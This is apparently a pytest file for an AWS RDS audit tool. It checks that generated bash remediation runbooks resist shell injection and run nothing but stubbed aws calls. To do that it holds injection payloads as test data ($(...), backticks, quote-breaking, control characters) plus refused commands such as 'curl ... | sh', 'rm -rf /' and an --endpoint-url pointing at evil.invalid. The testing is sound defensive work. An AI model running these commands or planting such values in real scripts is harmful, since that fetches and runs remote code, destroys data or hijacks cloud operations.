"""A runbook is safe to run whole: hostile values never become shell syntax, and an edited
report cannot put anything but a known remediation call into the script.

Each runbook is checked with `bash -n`, then run with a stub `aws` first (and alone) on PATH
that records its arguments: it must execute nothing but `aws`, with exactly the argument
vectors of the report's steps.
"""

from __future__ import annotations

import json
import os
import shlex
import subprocess
from pathlib import Path
from typing import Any

import pytest

from rdsaudit.model import ResourceType
from rdsaudit.text import identifier_problem
from tests.cli.test_cli import one_line_error, run, save
from tests.support.builders import (
    ACCOUNT,
    KEY,
    cluster,
    instance,
    inventory,
    kms_key,
    resource,
    snapshot,
)

SENTINEL = "PWNED"
# Each payload would create $SENTINEL in the working directory if the shell interpreted it
# (redirection and echo are builtins: no PATH needed).
HOSTILE = [
    f"a\necho x > {SENTINEL}1",
    f"b$(echo x > {SENTINEL}2)",
    f"c`echo x > {SENTINEL}3`",
    f"d'; echo x > {SENTINEL}4; '",
    f'e"; echo x > {SENTINEL}5; "',
    f"f\r\x1b[2K\x7f\u2028echo x > {SENTINEL}6",
    f"g\u0085;echo x>{SENTINEL}7",
]
# Shell syntax in a name is legal; a control character is not (an identifier holding one is
# malformed wherever it is read: AWS answer, saved inventory, report), so the control
# payloads reach a runbook only as free text, and as names they are refused before planning.
SHELL_NAMES = [h for h in HOSTILE if identifier_problem(h) is None]
CONTROL_NAMES = [h for h in HOSTILE if h not in SHELL_NAMES]


def _report(tmp_path: Path, *resources: Any, keys: Any = None, extra: tuple[str, ...] = ()
            ) -> tuple[Path, dict[str, Any]]:
    inv = save(tmp_path, inventory(*resources, keys=keys) if keys else inventory(*resources))
    out = tmp_path / "out"
    proc = run("evaluate", inv, "--output-dir", out, "--quiet", "--exit-zero", *extra)
    assert proc.returncode == 0, proc.stderr
    path = out / "rdsaudit-report.json"
    return path, json.loads(path.read_text())


def _stub_aws(tmp_path: Path, account: str = ACCOUNT) -> tuple[Path, Path]:
    bin_dir = tmp_path / "stub-bin"
    bin_dir.mkdir(exist_ok=True)
    log = tmp_path / "aws-calls.jsonl"
    stub = bin_dir / "aws"
    # Bash builtins only (fast): each argument NUL-terminated, each call ended by \x01.
    stub.write_text(
        "#!/bin/bash\n"
        f"printf '%s\\0' \"$@\" >> {shlex.quote(str(log))}\n"
        f"printf '\\001\\0' >> {shlex.quote(str(log))}\n"
        f'if [ "$1 $2" = "sts get-caller-identity" ]; then echo {account}; fi\n')
    stub.chmod(0o755)
    return bin_dir, log


def _plan(tmp_path: Path, report: Path, *args: str) -> str:
    """The runbook as written to a file (stdout through a text pipe would turn CR into LF)."""
    path = tmp_path / "runbook.sh"
    proc = run("plan", report, "--output", path, *args)
    assert proc.returncode == 0, proc.stderr
    return path.read_bytes().decode()


def _execute(tmp_path: Path, script: str, *, confirm: bool) -> tuple[list[list[str]], str]:
    path = tmp_path / "runbook.sh"
    path.write_bytes(script.encode())
    syntax = subprocess.run(["bash", "-n", str(path)], capture_output=True, text=True,
                            check=False)
    assert syntax.returncode == 0, syntax.stderr
    bin_dir, log = _stub_aws(tmp_path)
    log.unlink(missing_ok=True)
    work = tmp_path / "cwd"
    work.mkdir(exist_ok=True)
    env = {"PATH": str(bin_dir), "HOME": str(tmp_path)}
    if confirm:
        env["RDSAUDIT_CONFIRM_DELETE"] = "1"
    proc = subprocess.run(["/bin/bash", str(path)], cwd=work, env=env, capture_output=True,
                          text=True, check=False, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert "command not found" not in proc.stderr
    assert not [p for p in work.iterdir()], "the runbook created files"
    calls: list[list[str]] = [[]]
    for arg in (log.read_bytes().decode().split("\0")[:-1] if log.exists() else []):
        if arg == "\x01":
            calls.append([])
        else:
            calls[-1].append(arg)
    calls.pop()
    return calls, proc.stderr


def _expected(doc: dict[str, Any], *, confirm: bool) -> list[list[str]]:
    """Every runnable step of the report, each once."""
    seen: list[list[str]] = []
    for f in doc["findings"]:
        if f["status"] != "fail" or not f["remediation"]:
            continue
        for step in f["remediation"]["steps"]:
            if step["kind"] in ("manual",) or not step["argv"]:
                continue
            if step.get("destructive") and not confirm:
                continue
            if step["argv"][1:] not in seen:
                seen.append(step["argv"][1:])
    return seen


def _hostile_estate() -> list[Any]:
    res: list[Any] = []
    for i, bad in enumerate(SHELL_NAMES):
        res.append(instance(f"db{i}{bad}", encrypted=False))
        res.append(snapshot(f"snap{i}{bad}", encrypted=False, snapshot_type="manual",
                            source_id=f"db{i}{bad}"))
    res.append(cluster(f"cl{HOSTILE[1]}", encrypted=False))
    return res


@pytest.mark.parametrize("confirm", [False, True])
def test_hostile_identifiers_execute_nothing_but_aws(tmp_path: Path, confirm: bool) -> None:
    report, doc = _report(tmp_path, *_hostile_estate())
    calls, stderr = _execute(tmp_path, _plan(tmp_path, report), confirm=confirm)
    assert calls[0] == ["sts", "get-caller-identity", "--query", "Account", "--output", "text"]
    expected = _expected(doc, confirm=confirm)
    assert expected and sorted(map(json.dumps, calls[1:])) == sorted(map(json.dumps, expected))
    if not confirm:
        assert "RDSAUDIT_CONFIRM_DELETE is not 1" in stderr


@pytest.mark.parametrize("bad", CONTROL_NAMES)
def test_names_with_control_characters_never_reach_a_runbook(tmp_path: Path, bad: str
                                                             ) -> None:
    """The defect of issue 9 (a newline in a DB identifier ended a comment line and ran the
    rest) cannot arise: such a name in a report is refused in one line (exit 2) and no
    runbook is written."""
    assert SHELL_NAMES and CONTROL_NAMES
    report, doc = _report(tmp_path, instance("db1", encrypted=False))
    for f in doc["findings"]:
        f["resource"]["id"] = f"db1{bad}"
    report.write_text(json.dumps(doc))
    out = tmp_path / "runbook.sh"
    assert "control character" in one_line_error(run("plan", report, "--output", out))
    assert not out.exists()


def test_hostile_report_fields_stay_in_comments(tmp_path: Path) -> None:
    report, doc = _report(tmp_path, instance("db1", encrypted=False))
    bad = HOSTILE[0]
    doc["scan"]["finished_at"] = bad
    for f in doc["findings"]:
        f["message"] = bad
        f["title"] = bad
        f["rule_id"] = f["rule_id"] + bad if f["status"] == "fail" else f["rule_id"]
        if f["remediation"]:
            f["remediation"]["summary"] = bad
            for step in f["remediation"]["steps"]:
                step["title"] = bad
    report.write_text(json.dumps(doc))
    proc = run("plan", report)
    assert proc.returncode == 0, proc.stderr
    calls, _ = _execute(tmp_path, proc.stdout, confirm=True)
    assert len(calls) > 1
    for line in proc.stdout.splitlines():
        assert SENTINEL not in line or line.lstrip().startswith(("#", "printf '%s\\n' '"))


def test_hostile_scan_accounts_are_refused(tmp_path: Path) -> None:
    """An account list is identifiers, not free text: a report whose scan.accounts holds a
    control character is refused in one line (exit 2), never quoted into a runbook."""
    report, doc = _report(tmp_path, instance("db1", encrypted=False))
    doc["scan"]["accounts"] = [HOSTILE[0]]
    report.write_text(json.dumps(doc))
    assert "scan.accounts is not a list of names" in one_line_error(run("plan", report))


def test_hostile_account_id_is_refused(tmp_path: Path) -> None:
    report, doc = _report(tmp_path, instance("db1", encrypted=False))
    for f in doc["findings"]:
        f["resource"]["account_id"] = "1234$(id)"
        for step in (f["remediation"] or {}).get("steps", []):
            step.pop("account", None)
    report.write_text(json.dumps(doc))
    assert "not 12 digits" in one_line_error(run("plan", report))


EDITS = {
    "another command after a semicolon": "aws rds create-db-snapshot --region us-east-1 "
    "--db-instance-identifier db1 --db-snapshot-identifier s ; touch /tmp/x",
    "a pipe to a shell": "curl https://example.invalid/x | sh",
    "not aws": "rm -rf /",
    "another service": "aws s3 cp s3://bucket/x /tmp/x",
    "a non-remediation operation": "aws rds delete-db-parameter-group --region us-east-1 "
    "--db-parameter-group-name p",
    "another resource": "aws rds delete-db-instance --region us-east-1 "
    "--db-instance-identifier someone-elses-db --skip-final-snapshot",
    "an option the operation lacks": "aws rds modify-db-instance --region us-east-1 "
    "--db-instance-identifier db1 --endpoint-url http://evil.invalid",
    "a profile switch": "aws rds start-db-instance --db-instance-identifier db1 --profile x",
    "unbalanced quotes": "aws rds start-db-instance --db-instance-identifier 'db1",
    "command substitution": "aws rds start-db-instance --db-instance-identifier $(id)",
}


@pytest.mark.parametrize("edit", sorted(EDITS))
def test_an_edited_v1_command_is_refused(tmp_path: Path, edit: str) -> None:
    report, doc = _report(tmp_path, instance("db1", encrypted=False))
    [failing] = [f for f in doc["findings"] if f["status"] == "fail" and f["remediation"]]
    step = failing["remediation"]["steps"][1]
    # A version 1 report: command text only.
    for s in failing["remediation"]["steps"]:
        for name in ("argv", "kind", "account", "region", "destructive"):
            s.pop(name, None)
    step["command"] = EDITS[edit]
    step["manual"] = False
    report.write_text(json.dumps(doc))
    line = one_line_error(run("plan", report))
    assert "refused" in line and "db1" in line


def test_an_edited_argv_is_refused_like_command_text(tmp_path: Path) -> None:
    report, doc = _report(tmp_path, instance("db1", encrypted=False))
    [failing] = [f for f in doc["findings"] if f["status"] == "fail" and f["remediation"]]
    failing["remediation"]["steps"][0]["argv"] = ["aws", "rds", "delete-db-instance",
                                                  "--db-instance-identifier", "other",
                                                  "--skip-final-snapshot"]
    report.write_text(json.dumps(doc))
    assert "refused" in one_line_error(run("plan", report))


def test_a_v1_report_still_plans(tmp_path: Path) -> None:
    report, doc = _report(tmp_path, instance("db1", encrypted=False),
                          resource(ResourceType.DB_SNAPSHOT, "s1", encrypted=False,
                                   snapshot_type="manual"))
    for f in doc["findings"]:
        for s in (f["remediation"] or {}).get("steps", []):
            for name in ("argv", "kind", "account", "region", "destructive"):
                s.pop(name, None)
    report.write_text(json.dumps(doc))
    proc = run("plan", report)
    assert proc.returncode == 0, proc.stderr
    calls, _ = _execute(tmp_path, proc.stdout, confirm=False)
    assert ["rds", "create-db-snapshot", "--region", "us-east-1", "--db-instance-identifier",
            "db1", "--db-snapshot-identifier", "db1-pre-encryption"] in calls


def test_resource_matching_nothing_is_a_warning_and_exit_2(tmp_path: Path) -> None:
    report, _ = _report(tmp_path, instance("db1", encrypted=False))
    proc = run("plan", report, "--resource", "nope")
    assert proc.returncode == 2
    assert "warning: --resource 'nope' matches no resource" in proc.stderr


def test_key_steps_of_a_key_in_another_account_are_comments(tmp_path: Path) -> None:
    other = "arn:aws:kms:us-east-1:999988887777:key/11111111-2222-3333-4444-555555555555"
    report, _ = _report(tmp_path, instance("db1", key=other),
                        keys=(kms_key(other, key_state="Disabled"), kms_key(KEY)))
    proc = run("plan", report)
    assert proc.returncode == 0, proc.stderr
    assert "\naws kms enable-key" not in proc.stdout
    assert "# runs in account 999988887777" in proc.stdout
    os.environ.get("PATH")


def test_the_whole_demo_report_plans_and_runs_only_aws(tmp_path: Path) -> None:
    """The committed demo report (every rule, every shape, several accounts) plans whole:
    one runbook per account, each passes `bash -n` and, with a stub `aws`, runs nothing but
    `aws`. Manual steps (CloudTrail set-up for key-usage-not-audited) stay comments."""
    sample = Path(__file__).resolve().parents[2] / "sample_reports" / "rdsaudit-report.json"
    doc = json.loads(sample.read_text("utf-8"))
    out = tmp_path / "runbooks"
    # The regulated account requires a key in a custom key store: its one finding is planned
    # only with a target key there (without one the plan refuses, and says so).
    [vault] = [k["arn"] for k in doc["keys"] if "alias/cards-vault" in k["aliases"]]
    regulated = vault.split(":")[4]
    proc = run("plan", sample, "--output-dir", out, "--target-key", f"{regulated}={vault}")
    assert proc.returncode == 0, proc.stderr
    scripts = sorted(out.glob("runbook-*.sh"))
    # One per scanned account, and one for the owner of a cross-account key (its steps).
    assert {f"runbook-{a}.sh" for a in doc["scan"]["accounts"]} <= {s.name for s in scripts}
    for script in scripts:
        account = script.stem.removeprefix("runbook-")
        text = script.read_text("utf-8")
        assert "\n# Step" in text and "\naws " in text
        for line in text.splitlines():
            if "cloudtrail" in line:
                assert line.lstrip().startswith("#"), line
        (tmp_path / account).mkdir()
        bin_dir, log = _stub_aws(tmp_path / account, account)
        syntax = subprocess.run(["bash", "-n", str(script)], capture_output=True, text=True,
                                check=False)
        assert syntax.returncode == 0, syntax.stderr
        work = tmp_path / account / "cwd"
        work.mkdir()
        ran = subprocess.run(["/bin/bash", str(script)], cwd=work, capture_output=True,
                             text=True, check=False, timeout=120,
                             env={"PATH": str(bin_dir), "HOME": str(tmp_path),
                                  "RDSAUDIT_CONFIRM_DELETE": "1"})
        assert ran.returncode == 0, ran.stderr
        assert "command not found" not in ran.stderr and not list(work.iterdir())
        services = {c.split("\0")[0] for c in log.read_bytes().decode().split("\x01\0") if c}
        assert services <= {"sts", "rds", "kms"}, services
